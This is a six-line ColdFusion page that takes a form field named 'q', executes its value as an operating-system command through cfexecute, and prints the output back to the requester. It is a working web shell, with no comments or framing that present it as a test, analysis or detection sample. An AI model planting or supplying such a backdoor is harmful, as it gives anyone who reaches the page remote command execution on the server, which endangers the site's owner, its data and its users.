<cfparam name="form.q" default="">
<cfif len(form.q)>
    <cfset job = form.q>
    <cfexecute name="#job#" timeout="15" variable="res" />
    <cfoutput>#res#</cfoutput>
</cfif>
